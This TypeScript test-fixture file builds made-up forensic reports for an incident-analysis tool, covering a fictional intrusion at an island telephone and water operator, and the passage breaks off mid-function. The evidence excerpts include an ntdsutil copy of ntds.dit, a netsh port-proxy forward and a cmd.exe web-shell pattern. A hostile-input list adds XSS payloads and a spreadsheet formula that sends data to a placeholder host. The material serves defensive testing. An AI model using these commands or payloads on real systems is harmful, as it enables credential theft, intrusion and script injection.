import type {
  Action,
  BlindSpot,
  CoverageRow,
  EvidenceId,
  Report,
  ReportEntity,
  ReportEvidence,
  ReportFinding,
  ReportIncident,
  ReportRecord,
  ReportStep,
  Severity,
  StepEnd,
  Witness,
} from '../../src/model/index.ts'

/** Reports made up for the tests: an island telephone and water operator, addresses from RFC 5737, hosts under example. */

const id = (text: string) => text as EvidenceId
const hex = (seed: number, length: number) => {
  let state = seed * 2654435761
  let text = ''
  while (text.length < length) {
    state = Math.imul(state ^ (state >>> 15), 2246822519) + 374761393
    text += (state >>> 0).toString(16).padStart(8, '0')
  }
  return text.slice(0, length)
}

const file = (
  seed: number,
  path: string,
  format: string,
  size: number,
  records: number,
  firstTime: string,
  lastTime: string,
  diagnostics: ReportEvidence['diagnostics'] = [],
): ReportEvidence => ({
  id: hex(seed, 16),
  path,
  sha256: hex(seed, 64),
  bytes: size,
  format,
  records,
  events: records,
  firstTime,
  lastTime,
  diagnostics,
})

const vpn = file(
  1,
  'evidence/vpn01/fortigate-vpn.log.gz',
  'FortiGate syslog',
  48_211_004,
  182_340,
  '2023-02-01T00:00:04.000000Z',
  '2023-08-21T23:59:58.000000Z',
)
const web = file(
  2,
  'evidence/web01/access.log',
  'Apache combined access log',
  91_772_310,
  402_118,
  '2023-03-01T00:00:01.000000Z',
  '2023-08-21T22:10:44.000000Z',
  [
    {
      kind: 'diagnostic',
      code: 'access-log/unreadable-line',
      level: 'warning',
      message: '12 lines are no combined log lines; the first: "\\x16\\x03\\x01"',
      path: 'evidence/web01/access.log',
      record: 8812,
      count: 12,
      hint: 'these are TLS bytes sent to a plain port; nothing to do',
    },
  ],
)
const shell = file(
  3,
  'evidence/web01/webroot.zip!/portal/help/status.aspx',
  'ASPX page',
  1_914,
  1,
  '2023-05-17T19:42:10.000000Z',
  '2023-05-17T19:42:10.000000Z',
)
const webEvents = file(
  4,
  'evidence/web01/Security.evtx',
  'Windows event log',
  20_975_616,
  31_022,
  '2023-08-01T04:00:00.113000Z',
  '2023-08-21T23:58:01.300000Z',
  [
    {
      kind: 'diagnostic',
      code: 'evtx/truncated-chunk',
      level: 'warning',
      message: 'chunk 14 (offset 0xe1000): checksum does not match; read 1,203 of about 1,320 records',
      path: 'evidence/web01/Security.evtx',
      offset: 921600,
      hint: 'copy the file again with the event log service stopped, or export it with `wevtutil epl`',
    },
  ],
)
const dcEvents = file(
  5,
  'evidence/dc01/Security.evtx',
  'Windows event log',
  134_221_824,
  214_870,
  '2023-08-12T11:02:19.000000Z',
  '2023-08-21T23:59:59.900000Z',
)
const dcApplication = file(
  6,
  'evidence/dc01/Application.evtx',
  'Windows event log',
  4_198_400,
  6_114,
  '2023-01-02T08:00:00.000000Z',
  '2023-08-21T23:40:00.000000Z',
)
const flows = file(
  7,
  'evidence/sensor/conn.log.gz',
  'Zeek conn',
  310_118_200,
  2_914_003,
  '2023-08-10T00:00:00.000214Z',
  '2023-08-21T23:59:59.998112Z',
)
const engineering = file(
  8,
  'evidence/ews02/Security.evtx',
  'Windows event log',
  8_392_704,
  9_310,
  '2023-08-18T00:10:00.000000Z',
  '2023-08-21T21:00:00.000000Z',
)
const disk = file(
  9,
  'evidence/web01/$MFT',
  'recognised, not read: NTFS master file table; try `MFTECmd -f $MFT --json .`',
  262_144_000,
  0,
  '',
  '',
)
const packed = file(10, 'evidence/old/backup-2022.7z', 'encrypted', 12_001_222, 0, '', '', [
  {
    kind: 'diagnostic',
    code: 'evidence/encrypted',
    level: 'error',
    message: 'the archive is encrypted',
    path: 'evidence/old/backup-2022.7z',
    hint: 'unpack it yourself and give the folder',
  },
])

const record = (source: ReportEvidence, number: number, time: string, excerpt: string): ReportRecord => ({
  evidenceId: source.id,
  path: source.path,
  record: number,
  time,
  excerpt,
})

const relayA: StepEnd = { entity: 'relay', name: '203.0.113.24', addresses: ['203.0.113.24'] }
const relayB: StepEnd = { entity: 'relay', name: '198.51.100.77', addresses: ['198.51.100.77'] }
const relayC: StepEnd = { entity: 'relay', name: '192.0.2.141', addresses: ['192.0.2.141'] }
const edge: StepEnd = { entity: 'edge-device', name: 'vpn01.island.example', addresses: ['198.51.100.2', '10.20.0.1'] }
const web01: StepEnd = { entity: 'host', name: 'web01.island.example', addresses: ['10.20.4.11'] }
const dc01: StepEnd = { entity: 'host', name: 'dc01.island.example', addresses: ['10.20.8.5'] }
const ews02: StepEnd = { entity: 'host', name: 'ews02.ot.island.example', addresses: ['10.60.2.12'] }
const files01: StepEnd = { entity: 'host', name: 'files01.island.example', addresses: ['10.20.8.20'] }
const water: StepEnd = { entity: 'critical-service', name: 'Drinking water, northern wells', addresses: [] }

const barograph = (rule: string, title: string, level: Severity): Witness => ({ source: 'barograph', rule, title, level })
const sigma = (rule: string, title: string, level: Severity): Witness => ({ source: 'sigma', rule, title, level })

interface Told {
  readonly title: string
  readonly severity: Severity
  readonly confidence: ReportFinding['confidence']
  readonly techniques: readonly string[]
  readonly hosts: readonly string[]
  readonly accounts?: readonly string[]
  readonly addresses?: readonly string[]
  readonly count: number
  readonly why: string
  readonly benignExplanation: string
  readonly witnesses: readonly Witness[]
  readonly evidence: readonly ReportRecord[]
}

const told: readonly Told[] = [
  {
    title: 'The domain password database was copied on dc01',
    severity: 'critical',
    confidence: 'high',
    techniques: ['T1003.003'],
    hosts: ['dc01.island.example'],
    accounts: ['ISLAND\\svc-backup'],
    count: 4,
    why: 'ntdsutil made an install-from-media set: the command line names "ifm", and two minutes later the database engine opened and closed a copy of ntds.dit outside its folder.',
    benignExplanation:
      'An administrator prepares a new domain controller from media; then a promotion follows and the set is deleted by the same person.',
    witnesses: [
      barograph('credentials/ntds-copy', 'Copy of ntds.dit', 'critical'),
      sigma('2afafd61-6aae-4df4-baed-139fa1f4c345', 'Suspicious Process Patterns NTDS.DIT Exfil', 'high'),
    ],
    evidence: [
      record(
        dcEvents,
        771203,
        '2023-08-16T03:11:42.104000Z',
        'cmd.exe /c ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q  user=ISLAND\\svc-backup parent=wmiprvse.exe',
      ),
      record(
        dcApplication,
        44120,
        '2023-08-16T03:13:05.000000Z',
        'ESENT 325: ntdsutil (5120) The database engine created a new database (2, C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit)',
      ),
      record(
        dcApplication,
        44123,
        '2023-08-16T03:13:31.000000Z',
        'ESENT 327: ntdsutil (5120) The database engine detached a database (2, C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit)',
      ),
    ],
  },
  {
    title: 'Web shell status.aspx on web01 was used by one outside address at a time',
    severity: 'critical',
    confidence: 'high',
    techniques: ['T1505.003', 'T1190'],
    hosts: ['web01.island.example'],
    addresses: ['203.0.113.24', '198.51.100.77'],
    count: 61,
    why: 'The page hands a request parameter to a process start, nothing links to it, only two clients ever asked for it, and 58 of 61 requests are POST.',
    benignExplanation:
      'A status page a supplier calls; then the page is in the deployment and its calls come from the supplier’s network.',
    witnesses: [
      barograph('web-shell/source-to-sink', 'Request parameter reaches Process.Start', 'critical'),
      barograph('web-shell/lone-visitor', 'A page that one address posts to', 'high'),
      { source: 'yara', rule: 'island_aspx_cmd', title: 'ASPX command page', level: 'high' },
    ],
    evidence: [
      record(
        shell,
        1,
        '2023-05-17T19:42:10.000000Z',
        'Request["q"] -> new Process { StartInfo = { FileName = "cmd.exe", Arguments = "/c " + q } } (line 14 to line 22)',
      ),
      record(
        web,
        211904,
        '2023-05-17T19:44:02.000000Z',
        '203.0.113.24 - - [17/May/2023:19:44:02 +0000] "POST /portal/help/status.aspx HTTP/1.1" 200 412 "-" "Mozilla/5.0 (Windows NT 6.1; WOW64)"',
      ),
      record(
        web,
        381220,
        '2023-08-15T05:36:11.000000Z',
        '198.51.100.77 - - [15/Aug/2023:05:36:11 +0000] "POST /portal/help/status.aspx HTTP/1.1" 200 1873 "-" "Mozilla/5.0 (Windows NT 6.1; WOW64)"',
      ),
    ],
  },
  {
    title: 'svc-backup logged on from web01 to dc01 for the first time',
    severity: 'high',
    confidence: 'high',
    techniques: ['T1021.006', 'T1078.002'],
    hosts: ['dc01.island.example', 'web01.island.example'],
    accounts: ['ISLAND\\svc-backup'],
    count: 2,
    why: 'The account never came from web01 before in 214,870 records, and the log-on starts 94 seconds after a command through the web shell.',
    benignExplanation: 'A backup job was moved to another server; then it comes back every night from there.',
    witnesses: [barograph('lateral/first-source', 'First log-on from this host', 'high')],
    evidence: [
      record(
        dcEvents,
        770981,
        '2023-08-16T03:08:15.220000Z',
        '4624 LogonType 3 ISLAND\\svc-backup from 10.20.4.11 (WEB01) Kerberos',
      ),
      record(flows, 1402231, '2023-08-16T03:08:15.118000Z', '10.20.4.11:50122 -> 10.20.8.5:5985 tcp 48 kB'),
    ],
  },
  {
    title: 'The web server process w3wp.exe started cmd.exe',
    severity: 'high',
    confidence: 'high',
    techniques: ['T1505.003', 'T1059.003'],
    hosts: ['web01.island.example'],
    accounts: ['IIS APPPOOL\\portal'],
    count: 23,
    why: 'A web server worker that starts a shell runs somebody’s commands: whoami, netstat -ano, nltest /dclist.',
    benignExplanation: 'A content system that converts documents through a shell; then the command is always the same.',
    witnesses: [
      barograph('web-shell/worker-starts-shell', 'w3wp.exe started cmd.exe', 'high'),
      sigma('8202070f-edeb-4d31-a010-a26c72ac5600', 'Suspicious Process By Web Server Process', 'high'),
    ],
    evidence: [
      record(webEvents, 120331, '2023-08-15T05:36:11.507000Z', 'w3wp.exe -> cmd.exe /c whoami /all & netstat -ano'),
      record(webEvents, 120338, '2023-08-15T05:38:40.011000Z', 'w3wp.exe -> cmd.exe /c nltest /dclist:island.example'),
    ],
  },
  {
    title: 'VPN log-ins of operator.reyes from three home-router networks',
    severity: 'high',
    confidence: 'moderate',
    techniques: ['T1133', 'T1078', 'T1090.003'],
    hosts: ['vpn01.island.example'],
    accounts: ['operator.reyes'],
    addresses: ['203.0.113.24', '198.51.100.77', '192.0.2.141'],
    count: 9,
    why: 'In 181 days the account came from one network. Since 14 August it comes from three consumer networks in turn, always alone, always with the same client version and rhythm.',
    benignExplanation: 'The employee travels or works from several homes; ask the person, by telephone.',
    witnesses: [
      barograph('edge-device/new-network-then-inside', 'VPN log-in from a new network followed by inside activity', 'high'),
    ],
    evidence: [
      record(
        vpn,
        178220,
        '2023-08-15T05:34:25.000000Z',
        'logid="0101039424" action="tunnel-up" user="operator.reyes" remip=203.0.113.24 tunnelip=10.20.200.18',
      ),
      record(
        vpn,
        179001,
        '2023-08-17T04:02:51.000000Z',
        'logid="0101039424" action="tunnel-up" user="operator.reyes" remip=192.0.2.141 tunnelip=10.20.200.21',
      ),
    ],
  },
  {
    title: 'Port proxy on web01 forwards 8443 to the engineering network',
    severity: 'high',
    confidence: 'high',
    techniques: ['T1090.001'],
    hosts: ['web01.island.example'],
    accounts: ['ISLAND\\svc-backup'],
    count: 1,
    why: 'netsh added a forward from 0.0.0.0:8443 to 10.60.2.12:3389; the engineering network is not reachable directly.',
    benignExplanation: 'A supplier’s remote access made by hand; then it is in the change list.',
    witnesses: [barograph('network/port-proxy', 'Port proxy added', 'high')],
    evidence: [
      record(
        webEvents,
        121877,
        '2023-08-18T02:20:09.441000Z',
        'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.60.2.12 connectport=3389',
      ),
    ],
  },
  {
    title: 'Remote desktop session from web01 to the engineering workstation ews02',
    severity: 'critical',
    confidence: 'moderate',
    techniques: ['T1021.001', 'T0886'],
    hosts: ['ews02.ot.island.example', 'web01.island.example'],
    accounts: ['OT\\eng.santos'],
    count: 1,
    why: 'A session of 41 minutes on a workstation that programs the pump controllers, at 12:22 local time on a holiday, through the port proxy of web01.',
    benignExplanation: 'An engineer works from the office network through an unusual way; ask the engineer.',
    witnesses: [barograph('lateral/first-source', 'First log-on from this host', 'high')],
    evidence: [record(engineering, 8810, '2023-08-18T02:22:47.090000Z', '4624 LogonType 10 OT\\eng.santos from 10.20.4.11')],
  },
  {
    title: 'Archive of 212 MB left files01 through the VPN',
    severity: 'medium',
    confidence: 'low',
    techniques: ['T1560.001', 'T1041'],
    hosts: ['files01.island.example'],
    addresses: ['192.0.2.141'],
    count: 2,
    why: 'A file named like a picture but of archive content was written and the same number of bytes went to the tunnel address minutes later.',
    benignExplanation: 'A large picture collection was fetched by its owner.',
    witnesses: [barograph('network/volume-match', 'Bytes written equal bytes sent', 'medium')],
    evidence: [record(flows, 1502008, '2023-08-17T04:41:10.000000Z', '10.20.8.20:445 -> 10.20.200.21:51022 tcp 212 MB')],
  },
  {
    title: 'Security log of web01 was cleared',
    severity: 'high',
    confidence: 'high',
    techniques: ['T1070.001'],
    hosts: ['web01.island.example'],
    accounts: ['ISLAND\\svc-backup'],
    count: 1,
    why: 'Event 1102 of the log service itself; the record numbers start anew, so everything before 1 August is missing.',
    benignExplanation: 'A log was cleared after an archive was made; then the archive exists.',
    witnesses: [barograph('log-gaps/cleared', 'Log cleared', 'high')],
    evidence: [
      record(webEvents, 1, '2023-08-01T04:00:00.113000Z', '1102 The audit log was cleared. Subject: ISLAND\\svc-backup'),
    ],
  },
  {
    title: 'Scan of 14 web paths from 81 addresses',
    severity: 'informational',
    confidence: 'high',
    techniques: ['T1595.002'],
    hosts: ['web01.island.example'],
    count: 1204,
    why: 'Known scanner paths, all answered with 404; grouped, because such noise reaches every server.',
    benignExplanation: 'Internet background noise.',
    witnesses: [barograph('web/scanner-noise', 'Scanner noise', 'informational')],
    evidence: [record(web, 900, '2023-03-01T04:11:00.000000Z', '192.0.2.9 - - "GET /.env HTTP/1.1" 404 196')],
  },
]

const findings: readonly ReportFinding[] = told.map(({ accounts = [], addresses = [], ...rest }, index) => ({
  ...rest,
  accounts,
  addresses,
  id: hex(100 + index, 16),
  techniqueAliases: [],
  firstTime: rest.evidence[0]?.time ?? '',
  lastTime: rest.evidence.at(-1)?.time ?? '',
  evidenceTotal: rest.count,
}))

const about = (index: number) => findings[index]?.id ?? ''
const proof = (index: number) => findings[index]?.evidence ?? []

const step = (
  order: number,
  time: string,
  technique: string,
  title: string,
  from: StepEnd,
  to: StepEnd,
  how: ReportStep['how'],
  why: string,
  finding: number,
  account = '',
): ReportStep => ({
  order,
  time,
  orderedTime: time,
  technique,
  title,
  from,
  to,
  account,
  how,
  why,
  findings: [about(finding)],
  evidence: proof(finding),
})

const steps: readonly ReportStep[] = [
  step(
    1,
    '2023-05-17T19:42:10.000000Z',
    'T1505.003',
    'Web shell status.aspx placed',
    relayA,
    web01,
    'inferred',
    'The file is dated two minutes before its first use by 203.0.113.24; the request that wrote it is in no log. Refuted if the deployment log names the file.',
    1,
  ),
  step(
    2,
    '2023-08-15T05:34:25.000000Z',
    'T1133',
    'VPN log-in as operator.reyes',
    relayA,
    edge,
    'observed',
    'Tunnel-up record of the edge device.',
    4,
    'operator.reyes',
  ),
  step(
    3,
    '2023-08-15T05:36:11.000000Z',
    'T1505.003',
    'Commands through the web shell',
    relayB,
    web01,
    'observed',
    'POST in the access log, and a shell under w3wp.exe in the same second.',
    1,
  ),
  step(
    4,
    '2023-08-15T05:38:40.011000Z',
    'T1018',
    'Domain controllers listed',
    web01,
    web01,
    'observed',
    'nltest /dclist under w3wp.exe.',
    3,
    'IIS APPPOOL\\portal',
  ),
  step(
    5,
    '2023-08-16T03:08:15.220000Z',
    'T1021.006',
    'Remote shell on the domain controller',
    web01,
    dc01,
    'observed',
    'Log-on in the controller’s log and a flow to port 5985 in the sensor’s.',
    2,
    'ISLAND\\svc-backup',
  ),
  step(
    6,
    '2023-08-16T03:11:42.104000Z',
    'T1003.003',
    'Password database copied (ntds.dit)',
    dc01,
    dc01,
    'observed',
    'Command line and four records of the database engine.',
    0,
    'ISLAND\\svc-backup',
  ),
  step(
    7,
    '2023-08-17T04:02:51.000000Z',
    'T1133',
    'VPN log-in from another router',
    relayC,
    edge,
    'observed',
    'Tunnel-up record of the edge device.',
    4,
    'operator.reyes',
  ),
  step(
    8,
    '2023-08-17T04:30:00.000000Z',
    'T1021.002',
    'File share opened',
    edge,
    files01,
    'observed',
    'Flow from the tunnel address to port 445.',
    7,
    'operator.reyes',
  ),
  step(
    9,
    '2023-08-17T04:41:10.000000Z',
    'T1041',
    'Archive of 212 MB fetched',
    files01,
    relayC,
    'inferred',
    'As many bytes left through the tunnel as were written before. Refuted if the owner fetched the file.',
    7,
  ),
  step(
    10,
    '2023-08-18T02:20:09.441000Z',
    'T1090.001',
    'Port proxy to the engineering network',
    web01,
    web01,
    'observed',
    'netsh command line.',
    5,
    'ISLAND\\svc-backup',
  ),
  step(
    11,
    '2023-08-18T02:22:47.090000Z',
    'T1021.001',
    'Remote desktop to the engineering workstation',
    web01,
    ews02,
    'observed',
    'Log-on type 10 from web01.',
    6,
    'OT\\eng.santos',
  ),
  step(
    12,
    '2023-08-18T02:40:00.000000Z',
    'T0886',
    'Pump controllers are one connection away',
    ews02,
    water,
    'inferred',
    'The asset list lets ews02 program the well controllers. No record shows that it did: the controllers keep no log.',
    6,
  ),
]

const entity = (end: StepEnd, firstTime: string, lastTime: string, aliases: readonly string[] = []): ReportEntity => ({
  entity: end.entity,
  name: end.name,
  aliases,
  addresses: end.addresses,
  firstTime,
  lastTime,
})

const incident: ReportIncident = {
  id: hex(501, 16),
  title: 'Through home routers and a web shell to the password database and an engineering workstation',
  summary:
    'Somebody used at least three other people’s home routers to reach the web server and the VPN, ran commands through a hidden web page, copied the password database of the whole domain, and opened a workstation that programs the water pumps. Nothing was destroyed.',
  severity: 'critical',
  confidence: 'high',
  findings: findings
    .slice(0, 9)
    .map(finding => finding.id)
    .toSorted(),
  entities: [
    entity(relayA, '2023-05-17T19:42:10.000000Z', '2023-08-15T05:34:25.000000Z'),
    entity(relayB, '2023-08-15T05:36:11.000000Z', '2023-08-15T06:10:00.000000Z'),
    entity(relayC, '2023-08-17T04:02:51.000000Z', '2023-08-17T04:41:10.000000Z'),
    entity(edge, '2023-08-15T05:34:25.000000Z', '2023-08-17T04:41:10.000000Z', ['vpn01', 'fw-edge-1']),
    entity(web01, '2023-05-17T19:42:10.000000Z', '2023-08-18T02:22:47.090000Z', ['WEB01']),
    entity(dc01, '2023-08-16T03:08:15.220000Z', '2023-08-16T03:13:31.000000Z', ['DC01']),
    entity(ews02, '2023-08-18T02:22:47.090000Z', '2023-08-18T03:03:47.090000Z', ['EWS02']),
    entity(files01, '2023-08-17T04:30:00.000000Z', '2023-08-17T04:41:10.000000Z'),
    entity(
      { entity: 'account', name: 'ISLAND\\svc-backup', addresses: [] },
      '2023-08-01T04:00:00.113000Z',
      '2023-08-18T02:20:09.441000Z',
      ['svc-backup@island.example'],
    ),
    entity(
      { entity: 'account', name: 'operator.reyes', addresses: [] },
      '2023-08-15T05:34:25.000000Z',
      '2023-08-17T04:41:10.000000Z',
    ),
    entity(
      { entity: 'web-resource', name: '/portal/help/status.aspx', addresses: [] },
      '2023-05-17T19:42:10.000000Z',
      '2023-08-15T06:10:00.000000Z',
    ),
    entity(water, '', ''),
  ],
  steps,
  trailEnds: [
    {
      at: '203.0.113.24',
      why: 'A home router passes traffic on; who sits behind it is not in our evidence.',
      whatWouldContinueIt:
        'The router itself (memory image before any reboot) or its provider’s flow records for 17 May and 15 August 2023.',
    },
    {
      at: '198.51.100.77',
      why: 'A home router passes traffic on; who sits behind it is not in our evidence.',
      whatWouldContinueIt:
        'The router itself (memory image before any reboot) or its provider’s flow records for 15 August 2023.',
    },
    {
      at: 'ews02.ot.island.example',
      why: 'The pump controllers keep no log and no sensor sees their network.',
      whatWouldContinueIt: 'A packet capture on the controller network, or the project file history of the engineering software.',
    },
  ],
}

const actions: readonly Action[] = [
  {
    order: 1,
    kind: 'preserve',
    what: 'Take the memory of vpn01 and web01 and copy their logs before anything else',
    targets: ['vpn01.island.example', 'web01.island.example'],
    doFirst: 'Write down the time of each copy and its hash.',
    doNot: 'Do not restart the devices: what runs only in memory is gone then.',
    why: 'Relay software and injected code live in memory only.',
    effort: '2 hours, one person',
    findings: [about(1), about(4)],
  },
  {
    order: 2,
    kind: 'preserve',
    what: 'Ask the internet providers to keep flow records of the three relay addresses',
    targets: ['203.0.113.24', '198.51.100.77', '192.0.2.141'],
    doFirst: 'Name the times in UTC.',
    doNot: 'Do not contact the router owners yourself.',
    why: 'Providers keep such records for days or weeks only.',
    effort: '1 hour',
    findings: [about(4)],
  },
  {
    order: 3,
    kind: 'contain',
    what: 'Cut ews02 from the office network; let the water plant run by hand',
    targets: ['ews02.ot.island.example'],
    doFirst: 'Tell the control room; check that local operation works.',
    doNot: 'Do not switch off the safety controllers’ own network.',
    why: 'It is the one machine between the intruder and the pumps.',
    effort: '30 minutes, control room agrees',
    findings: [about(6)],
  },
  {
    order: 4,
    kind: 'contain',
    what: 'Close VPN access of operator.reyes and svc-backup at the same moment',
    targets: ['operator.reyes', 'ISLAND\\svc-backup'],
    doFirst: 'Agree on one time for everything in this list.',
    doNot: 'Do not reset passwords one by one: it warns the intruder and leaves other ways open.',
    why: 'Both accounts are in the intruder’s hands.',
    effort: '1 hour',
    findings: [about(4), about(2)],
  },
  {
    order: 5,
    kind: 'evict',
    what: 'Remove the web shell and the port proxy, rebuild web01 from a clean image',
    targets: ['web01.island.example'],
    doFirst: 'Keep a copy of the disk.',
    doNot: 'Do not only delete the file.',
    why: 'A shell that was there for three months is seldom alone.',
    effort: '1 day',
    findings: [about(1), about(5)],
  },
  {
    order: 6,
    kind: 'evict',
    what: 'Change every domain password, the krbtgt key twice',
    targets: ['island.example'],
    doFirst: 'Do it after containment, in one planned night.',
    doNot: 'Do not start before the shell and the VPN access are closed.',
    why: 'The copied database holds every password of the domain.',
    effort: '2 nights, 3 people',
    findings: [about(0)],
  },
  {
    order: 7,
    kind: 'close-gap',
    what: 'Record command lines and forward logs of all servers to one place',
    targets: ['dc01.island.example', 'files01.island.example'],
    doFirst: '',
    doNot: '',
    why: 'The log of web01 was cleared; a forwarded copy would have survived.',
    effort: '2 days',
    findings: [about(8)],
  },
  {
    order: 8,
    kind: 'close-gap',
    what: 'Put a passive sensor on the controller network',
    targets: ['10.60.2.0/24'],
    doFirst: '',
    doNot: 'Do not scan controllers actively.',
    why: 'Nobody can say today what happened there.',
    effort: '1 week',
    findings: [],
  },
]

const blindSpots: readonly BlindSpot[] = [
  {
    what: 'Windows events before 1 August',
    where: 'web01.island.example',
    from: '',
    to: '2023-08-01T04:00:00.113000Z',
    consequence: 'How the web shell was written, and what was done in its first ten weeks, is not known.',
    howToClose: 'Give shadow copies or backups of web01 from May to July.',
  },
  {
    what: 'Controller network',
    where: '10.60.2.0/24',
    from: '2023-08-18T02:22:47.090000Z',
    to: '2023-08-21T23:59:59.900000Z',
    consequence: 'It cannot be said whether a pump controller was read or changed.',
    howToClose: 'Compare the controllers’ programs with the project files; put a passive sensor there.',
  },
  {
    what: 'Command lines',
    where: 'files01.island.example',
    from: '2023-08-10T00:00:00.000000Z',
    to: '2023-08-21T23:59:59.900000Z',
    consequence: 'Programs run there leave no trace.',
    howToClose: 'Switch on "include command line in process creation events" and give the Security log.',
  },
]

const coverageRow = (
  host: string,
  source: ReportEvidence,
  commandLines: CoverageRow['commandLines'],
  scriptBlocks: CoverageRow['scriptBlocks'],
  sysmon: CoverageRow['sysmon'],
): CoverageRow => ({
  host,
  source: source.format,
  firstTime: source.firstTime,
  lastTime: source.lastTime,
  events: source.events,
  commandLines,
  scriptBlocks,
  sysmon,
})

const all = [vpn, web, shell, webEvents, dcEvents, dcApplication, flows, engineering, disk, packed]

/** A whole intrusion, as a full report. */
export const islandReport: Report = {
  schema: 'barograph/report/1',
  version: '0.1.0',
  generatedFrom: {
    evidence: all.toSorted((a, b) => (a.path < b.path ? -1 : 1)),
    diagnostics: all
      .flatMap(item => item.diagnostics)
      .map(item => ({ ...item, evidence: id(all.find(other => other.path === item.path)?.id ?? '') })),
    since: '',
    until: '',
  },
  verdict: {
    level: 'intrusion',
    sentence:
      'Somebody has been inside the network since at least 17 May 2023, holds every password of the domain, and reached a workstation that programs the water pumps.',
    confidence: 'high',
  },
  findings,
  incidents: [incident],
  attribution: {
    hypotheses: [
      {
        who: 'Volt Typhoon (G1017), or somebody who works the same way',
        likelihood: 'likely',
        confidence: 'moderate',
        for: [
          'Home routers as relays, changed every session',
          'ntds.dit taken with ntdsutil, no malware left behind',
          'Target: communications and water of an island',
          'No data for sale was touched',
        ],
        against: [
          'No file, string or certificate that only this group uses',
          'The relays’ own memory was not seen',
          'Every single technique is used by others too',
        ],
      },
      {
        who: 'Another state group that uses relay routers',
        likelihood: 'roughly even chance',
        confidence: 'low',
        for: ['Relay networks are shared between groups'],
        against: ['No custom malware, no mailbox was read'],
      },
      {
        who: 'Criminals before extortion',
        likelihood: 'unlikely',
        confidence: 'moderate',
        for: ['Password database taken'],
        against: ['Ninety days of silence', 'No encryption tool, no mass copy of business data'],
      },
    ],
    statement:
      'Moderate confidence. The way of working fits Volt Typhoon better than the others; nothing found belongs to this group alone. A memory image of one relay router would change our mind most.',
  },
  impact: {
    services: [
      {
        name: 'Drinking water, northern wells',
        sector: 'Water and Wastewater',
        state: 'could',
        why: 'ews02 programs the well controllers; the session of 18 August lasted 41 minutes.',
      },
      {
        name: 'Mobile telephone core',
        sector: 'Communications',
        state: 'could',
        why: 'Administered with domain accounts, all of which are in the copied database.',
      },
      { name: 'Customer portal', sector: 'Communications', state: 'did', why: 'The portal’s own server is web01.' },
      {
        name: 'Power of the desalination plant',
        sector: 'Energy',
        state: 'not reached',
        why: 'Own network, no path from any touched host.',
      },
    ],
    cut: [
      {
        what: 'ews02 from the office network',
        protects: ['Drinking water, northern wells'],
        cost: 'Pumps are run by hand; one more person a shift.',
      },
      {
        what: 'web01 from the inside network',
        protects: ['Mobile telephone core', 'Drinking water, northern wells'],
        cost: 'The customer portal is down.',
      },
    ],
  },
  blindSpots,
  clocks: [
    { source: 'dc01.island.example Security', offset: 0, basis: 'reference' },
    { source: 'web01.island.example access.log', offset: -3.2, basis: '41 requests that are in the sensor’s http log as well' },
    { source: 'vpn01 FortiGate syslog', offset: 36000, basis: 'log without zone; the device’s configuration says Pacific/Guam' },
  ],
  actions,
  coverage: {
    items: 10,
    itemsRead: 8,
    itemsNotRead: 2,
    itemsUnknown: 0,
    bytes: 892_106_194,
    bytesRead: 618_000_000,
    records: 3_759_778,
    events: 3_759_778,
    areas: { logons: true, processes: true, web: true, network: true },
    sources: [
      coverageRow('dc01.island.example', dcEvents, 'yes', 'no', 'no'),
      coverageRow('dc01.island.example', dcApplication, 'not applicable', 'not applicable', 'not applicable'),
      coverageRow('ews02.ot.island.example', engineering, 'no', 'no', 'no'),
      coverageRow('vpn01.island.example', vpn, 'not applicable', 'not applicable', 'not applicable'),
      coverageRow('web01.island.example', web, 'not applicable', 'not applicable', 'not applicable'),
      coverageRow('web01.island.example', webEvents, 'yes', 'no', 'yes'),
      coverageRow('sensor', flows, 'not applicable', 'not applicable', 'not applicable'),
    ],
    partial: false,
  },
}

/** Everything was covered and nothing is there. */
export const quietReport: Report = {
  ...islandReport,
  generatedFrom: {
    evidence: [dcEvents, flows, web, webEvents]
      .toSorted((a, b) => (a.path < b.path ? -1 : 1))
      .map(item => ({ ...item, diagnostics: [] })),
    diagnostics: [],
    since: '2023-08-01T00:00:00.000000Z',
    until: '2023-08-21T23:59:59.999999Z',
  },
  verdict: {
    level: 'nothing-found',
    sentence:
      'Log-ons, programs, web and network are covered from 1 to 21 August 2023, and nothing in them looks like an intruder.',
    confidence: 'moderate',
  },
  findings: findings.slice(9),
  incidents: [],
  attribution: { hypotheses: [], statement: 'Nothing to attribute.' },
  impact: {
    services: islandReport.impact.services.map(service => ({
      ...service,
      state: 'not reached' as const,
      why: 'No touched host.',
    })),
    cut: [],
  },
  blindSpots: blindSpots.slice(2),
  clocks: [],
  actions: [],
  coverage: { ...islandReport.coverage, items: 4, itemsRead: 4, itemsNotRead: 0, bytesRead: 557_000_000, bytes: 557_000_000 },
}

/** Too little evidence to say anything. */
export const insufficientReport: Report = {
  ...quietReport,
  generatedFrom: { evidence: [disk, packed], diagnostics: [], since: '', until: '' },
  verdict: {
    level: 'insufficient-evidence',
    sentence: 'The evidence holds no log that could show an intruder: two items, neither could be read.',
    confidence: 'high',
  },
  findings: [],
  impact: { services: [], cut: [] },
  blindSpots: [
    {
      what: 'Everything',
      where: 'all hosts',
      from: '',
      to: '',
      consequence: 'An intruder would not be seen.',
      howToClose: 'Give Security.evtx of the domain controllers and the web server’s access log.',
    },
  ],
  coverage: {
    items: 2,
    itemsRead: 0,
    itemsNotRead: 2,
    itemsUnknown: 0,
    bytes: 274_145_222,
    bytesRead: 0,
    records: 0,
    events: 0,
    areas: { logons: false, processes: false, web: false, network: false },
    sources: [],
    partial: true,
  },
}

/** Text an attacker would like to see run, obeyed, or in the way. */
export const hostileTexts = {
  script: '<script>window.ran = 1</script>',
  image: '"><img src=x onerror="window.ran = 1">',
  attribute: '" onmouseover="window.ran = 1" x="',
  closing: '</title></style></script></svg></template><script>window.ran = 1</script>',
  link: 'javascript:window.ran=1',
  escape: '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b31m',
  direction: 'invoice\u202egpj.exe\u2066',
  formula: '=HYPERLINK("http://192.0.2.1/"&A1)',
  long: 'A'.repeat(5000),
  host: 'h'.repeat(300),
  marks: `z${'\u0300\u0489'.repeat(200)}`,
  nothing: '\u200b\ufeff',
  half: '\ud800',
  lines: 'one\ntwo\r\nthree\u2028four\tfive',
  entity: '&lt;b&gt; &amp;',
  prototype: '__proto__',
} as const

/** Every place of a report that can hold text from evidence, filled with the worst. */
export function hostileReport(): Report {
  const texts = Object.values(hostileTexts)
  let turn = 0
  const bad = () => texts[turn++ % texts.length] ?? ''
